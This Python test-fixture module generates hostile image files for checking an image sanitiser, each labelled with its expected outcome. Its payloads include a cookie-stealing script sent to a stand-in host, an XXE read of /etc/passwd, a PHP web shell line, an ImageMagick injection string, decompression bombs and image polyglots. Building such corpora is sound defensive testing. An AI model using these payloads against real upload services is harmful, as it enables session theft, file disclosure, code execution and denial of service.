"""Hostile pictures, made here byte by byte: each with what has to become of it."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any, Literal

from PIL import Image, ImageDraw
from PIL.PngImagePlugin import PngInfo

Fate = Literal["turned away", "refused", "cleaned", "survived"]

SECRET = b"SECRET-52.520008-13.404954"
"""Stands in every place where a picture can hold more than pixels."""
GPS = 0x8825


@dataclass(frozen=True)
class Case:
    """`turned away`: before anything is decoded; `refused`: by the decoder; `cleaned`: shown; `survived`: either."""

    name: str
    raw: bytes
    fate: Fate


def sample(width: int = 120, height: int = 80, mode: str = "RGB") -> Image.Image:
    """A drawing that is not the same from any two sides."""
    picture = Image.new("RGB", (width, height), "#20C080")
    draw = ImageDraw.Draw(picture)
    draw.rectangle((0, 0, width // 2, height // 2), fill="#F02010")
    draw.ellipse((width // 4, height // 4, width, height), fill="#1040E0")
    return picture.convert(mode)


def saved(picture: Image.Image, kind: str, **options: Any) -> bytes:
    out = io.BytesIO()
    picture.save(out, kind, **options)
    return out.getvalue()


def exif(orientation: int = 1) -> Image.Exif:
    """Camera, place and orientation."""
    facts = Image.Exif()
    facts[0x0112] = orientation
    facts[0x010F] = SECRET.decode()
    facts.get_ifd(GPS).update({1: "N", 2: (52.0, 31.0, 12.0), 3: "E", 4: (13.0, 24.0, 18.0), 29: SECRET.decode()})
    return facts


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def ihdr(width: int, height: int, depth: int = 8, colour: int = 2) -> bytes:
    return chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))


def png(*chunks: bytes, end: bool = True) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks) + (chunk(b"IEND", b"") if end else b"")


def rows(width: int, height: int, bytes_per_pixel: int = 3, fill: int = 0x80) -> bytes:
    return chunk(b"IDAT", zlib.compress((b"\0" + bytes([fill]) * width * bytes_per_pixel) * height, 9))


def bomb(megabytes: int) -> bytes:
    """Zeros by the megabyte in a thousandth of the space."""
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(1 << 20)) for _ in range(megabytes)) + packer.flush()


def riff(*chunks: tuple[bytes, bytes], kind: bytes = b"WEBP") -> bytes:
    body = b"".join(name + struct.pack("<I", len(data)) + data + b"\0" * (len(data) % 2) for name, data in chunks)
    return b"RIFF" + struct.pack("<I", len(body) + 4) + kind + body


def canvas(width: int, height: int, flags: int = 0) -> tuple[bytes, bytes]:
    return b"VP8X", bytes([flags, 0, 0, 0]) + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("index.html", b"<script>alert(1)</script>" + SECRET)
    return out.getvalue()


def scan_bomb() -> bytes:
    """A progressive JPEG whose last scan comes again and again: little to read, much to do."""
    raw = saved(Image.new("L", (4000, 4000), 128), "JPEG", progressive=True, quality=20)
    last = raw.rindex(b"\xff\xda")
    scan = raw[last:-2]
    return raw[:-2] + scan * ((2 * 1024 * 1024 - len(raw)) // len(scan)) + raw[-2:]


def corpus() -> list[Case]:
    """Every case but the slow one (`scan_bomb`)."""
    return [
        *no_pictures(),
        *impossible_headers(),
        *cut_off(),
        *bombs(),
        *liars(),
        *talkers(),
        *oddities(),
        *polyglots(),
    ]


def no_pictures() -> Iterator[Case]:
    script = b"<script>fetch('//x/'+document.cookie)</script>"
    ftyp = b"\0\0\0\x1cftyp"
    for name, raw in {
        "zero bytes": b"",
        "one byte": b"\x89",
        "svg with a script": b'<svg xmlns="http://www.w3.org/2000/svg">' + script + b"</svg>",
        "svg with an entity": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
        "html as a picture": b"<!doctype html>" + script,
        "html before a picture": script + saved(sample(), "PNG"),
        "white space before a picture": b"\n" + saved(sample(), "PNG"),
        "zip as a picture": archive(),
        "pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript>>>>",
        "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n(x) run",
        "heic": ftyp + b"heic\0\0\0\0mif1heic",
        "avif": saved(sample(), "AVIF"),
        "tiff": saved(sample(), "TIFF"),
        "bmp": saved(sample(), "BMP"),
        "ico": saved(sample(), "ICO"),
        "jpeg 2000": saved(sample(), "JPEG2000"),
        "ppm": saved(sample(), "PPM"),
        "program": b"\x7fELF\x02\x01\x01" + bytes(100),
        "php": b"<?php system($_GET['c']); ?>",
        "imagemagick script": b"push graphic-context\nfill 'url(https://x/x.jpg\"|ls \"-la)'\npop graphic-context",
        "gzip": b"\x1f\x8b\x08" + bytes(20),
        "wave in a riff": riff((b"fmt ", bytes(16)), kind=b"WAVE"),
        "too many bytes": saved(sample(), "PNG") + bytes(2 * 1024 * 1024),
    }.items():
        yield Case(name, raw, "turned away")


def impossible_headers() -> Iterator[Case]:
    frame = b"\xff\xd8\xff\xc0\x00\x0b\x08%b\x01\x01\x11\x00\xff\xd9" + bytes(20)
    for name, raw in {
        "png signature alone": png(end=False),
        "png without a header": png(rows(1, 1)),
        "png no pixel wide": png(ihdr(0, 5), rows(1, 1)),
        "png of 3.6 gigapixels": png(ihdr(60_000, 60_000), rows(1, 1)),
        "png of 2^62 pixels": png(ihdr(2**31 - 1, 2**31 - 1), rows(1, 1)),
        "png a line of 16 million": png(ihdr(16_000_000, 1), rows(1, 1)),
        "jpeg start alone": b"\xff\xd8\xff\xe0",
        "jpeg without a frame": b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(10) + b"\xff\xda" + bytes(30),
        "jpeg of marker fill": b"\xff\xd8" + b"\xff" * 5000,
        "jpeg of 4.3 gigapixels": frame.replace(b"%b", b"\xff\xff\xff\xff"),
        "jpeg no pixel high": frame.replace(b"%b", b"\x00\x00\x00\x10"),
        "gif of 4.3 gigapixels": b"GIF89a\xff\xff\xff\xff\x00\x00\x00;",
        "gif cut off in its header": b"GIF89a\x01",
        "webp of 2^48 pixels": riff(canvas(2**24, 2**24), (b"VP8L", bytes(10))),
        "webp of 9 megapixels": riff(canvas(3000, 3000), (b"VP8L", bytes(10))),
        "webp of nothing": riff((b"VP8 ", bytes(30))),
    }.items():
        yield Case(name, raw, "turned away")


def cut_off() -> Iterator[Case]:
    """Truncated at many places, after a header that is all right."""
    noise = Image.frombytes("RGB", (200, 200), random.Random(7).randbytes(120_000))
    for kind, least in (("PNG", 40), ("JPEG", 300), ("GIF", 30), ("WEBP", 40)):
        raw = saved(noise, kind)
        for share in (0.1, 0.5, 0.98):
            yield Case(f"{kind} cut off at {share:.0%}", raw[: max(least, int(len(raw) * share))], "refused")
    broken = bytearray(saved(noise, "PNG"))
    broken[len(broken) // 2] ^= 0xFF
    yield Case("png with a wrong checksum", bytes(broken), "survived")
    yield Case("png of garbage", png(ihdr(50, 50), chunk(b"IDAT", b"garbage" * 50)), "survived")
    yield Case("png without pixels", png(ihdr(50, 50)), "refused")


def bombs() -> Iterator[Case]:
    text = b"Comment\0\0"
    small = (ihdr(8, 8), rows(8, 8))
    yield Case("png profile bomb", png(small[0], chunk(b"iCCP", b"p\0\0" + bomb(40)), small[1]), "refused")
    yield Case("png text bomb", png(small[0], chunk(b"zTXt", text + bomb(40)), small[1]), "refused")
    international = chunk(b"iTXt", b"Comment\0\1\0\0\0" + bomb(40))
    yield Case("png international text bomb", png(small[0], international, small[1]), "refused")
    many = [chunk(b"zTXt", text + zlib.compress(bytes(900_000), 9))] * 300
    yield Case("png of many text bombs", png(small[0], *many, small[1]), "refused")
    yield Case("png text bomb after the pixels", png(*small, chunk(b"zTXt", text + bomb(40))), "survived")
    yield Case("png pixel bomb", png(ihdr(8, 8), chunk(b"IDAT", bomb(80))), "survived")
    yield Case(
        "png of the largest size",
        saved(Image.new("RGBA", (4000, 4000), "#10203040"), "PNG", compress_level=1),
        "cleaned",
    )
    yield Case(
        "png of 16 bits, largest size",
        saved(Image.new("I;16", (4000, 4000), 30_000), "PNG", compress_level=1),
        "cleaned",
    )
    yield Case("gif of the largest size", saved(Image.new("P", (4000, 4000), 3), "GIF"), "cleaned")
    yield Case(
        "webp of the largest size", saved(Image.new("RGBA", (2800, 2800), "#10203040"), "WEBP", method=0), "cleaned"
    )
    progressive = saved(sample(4000, 4000, "CMYK"), "JPEG", progressive=True, quality=30, subsampling=0)
    yield Case("progressive cmyk jpeg of the largest size", progressive, "cleaned")
    yield Case("a long line", saved(sample(16_000, 3), "PNG"), "cleaned")


def liars() -> Iterator[Case]:
    yield Case("png with a second, larger header", png(ihdr(8, 8), ihdr(60_000, 60_000), rows(8, 8)), "refused")
    yield Case("png with a second header of 30 megapixels", png(ihdr(8, 8), ihdr(5500, 5500), rows(8, 8)), "refused")
    yield Case("png with fewer pixels than it says", png(ihdr(4000, 4000), rows(8, 8)), "refused")
    yield Case("png with a palette that is not there", png(ihdr(8, 8, colour=3), rows(8, 8, 1, 200)), "survived")
    yield Case("png of an impossible depth", png(ihdr(8, 8, depth=7), rows(8, 8)), "refused")
    frame = b",\0\0\0\0\x60\xea\x60\xea\0\x02\x02\x44\x01\0;"
    yield Case("gif with a frame beyond its screen", b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff" + frame, "refused")
    square = saved(sample(64, 64), "WEBP", lossless=True)
    yield Case("webp with a larger canvas", riff(canvas(2000, 2000), (b"VP8L", square[20:])), "survived")
    raw = saved(sample(), "JPEG")
    at = raw.index(b"\xff\xc0")
    twice = raw[:at] + b"\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01" + raw[at:]
    yield Case("jpeg with two frames", raw[: at + 19] + twice[at:], "survived")
    control = chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0))
    yield Case("png of two billion frames", png(ihdr(8, 8), control, rows(8, 8)), "survived")


def talkers() -> Iterator[Case]:
    """Pictures that say more than they show."""
    for turn in range(1, 9):
        yield Case(f"jpeg with its place, turned {turn}", saved(sample(), "JPEG", exif=exif(turn)), "cleaned")
    said = PngInfo()
    said.add_text("Comment", SECRET.decode())
    said.add_text("Packed", SECRET.decode(), zip=True)
    said.add_itxt("XML:com.adobe.xmp", SECRET.decode())
    yield Case("png with texts and its place", saved(sample(), "PNG", pnginfo=said, exif=exif(3)), "cleaned")
    profile = SECRET * 1000
    webp = saved(sample(), "WEBP", exif=exif(6), xmp=SECRET, icc_profile=profile)
    yield Case("webp with its place", webp, "cleaned")
    yield Case("jpeg with comment and profile", saved(sample(), "JPEG", comment=SECRET, icc_profile=profile), "cleaned")
    yield Case("gif with a comment", saved(sample(mode="P"), "GIF", comment=SECRET), "cleaned")
    yield Case(
        "jpeg with a broken place", saved(sample(), "JPEG", exif=b"Exif\0\0MM\0*\xff\xff\xff\xff" + SECRET), "cleaned"
    )
    loop = b"Exif\0\0II*\0\x08\0\0\0\x01\0\x69\x87\x04\0\x01\0\0\0\x08\0\0\0\x08\0\0\0"
    yield Case("jpeg whose facts go in a circle", saved(sample(), "JPEG", exif=loop), "cleaned")


def oddities() -> Iterator[Case]:
    frames = [sample(60, 60).rotate(angle) for angle in (90, 180, 270)]
    for kind in ("GIF", "PNG", "WEBP"):
        yield Case(f"animated {kind}", saved(sample(60, 60), kind, save_all=True, append_images=frames), "cleaned")
    yield Case("cmyk jpeg", saved(sample(mode="CMYK"), "JPEG"), "cleaned")
    yield Case("grey jpeg", saved(sample(mode="L"), "JPEG"), "cleaned")
    yield Case("several pictures in a jpeg", saved(sample(), "MPO", save_all=True, append_images=frames), "cleaned")
    deep = png(ihdr(8, 8, depth=16, colour=2), chunk(b"IDAT", zlib.compress((b"\0" + b"\x80\x01" * 24) * 8)))
    yield Case("png of 16 bits a colour", deep, "cleaned")
    deeper = png(ihdr(8, 8, depth=16, colour=6), chunk(b"IDAT", zlib.compress((b"\0" + b"\x80\x01" * 32) * 8)))
    yield Case("png of 16 bits with alpha", deeper, "cleaned")
    for mode in ("1", "L", "LA", "P", "RGBA"):
        yield Case(f"png {mode}", saved(sample(mode=mode), "PNG"), "cleaned")
    yield Case("png palette with alpha", saved(sample(mode="P"), "PNG", transparency=bytes(range(256))), "cleaned")
    yield Case("png with one clear colour", saved(sample(), "PNG", transparency=(32, 192, 128)), "cleaned")
    yield Case("one pixel", saved(sample(1, 1), "PNG"), "cleaned")
    yield Case("one pixel of gif", saved(sample(1, 1, "P"), "GIF"), "cleaned")


def polyglots() -> Iterator[Case]:
    """Pictures that are something else too."""
    script = b"<html><script>alert('" + SECRET + b"')</script></html>"
    yield Case("png and zip", saved(sample(), "PNG") + archive(), "cleaned")
    yield Case("jpeg and html", saved(sample(), "JPEG") + script, "cleaned")
    yield Case("jpeg and php in a comment", saved(sample(), "JPEG", comment=b"<?php " + SECRET), "cleaned")
    yield Case("gif and zip", saved(sample(mode="P"), "GIF") + archive(), "cleaned")
    javascript = b"GIF89a/*\0\0\0\0\0*/=1;alert('" + SECRET + b"');//"
    yield Case("gif and javascript", javascript, "turned away")
    yield Case("webp and html", saved(sample(), "WEBP") + script, "survived")
    yield Case("png with html among its chunks", png(ihdr(8, 8), chunk(b"htML", script), rows(8, 8)), "cleaned")
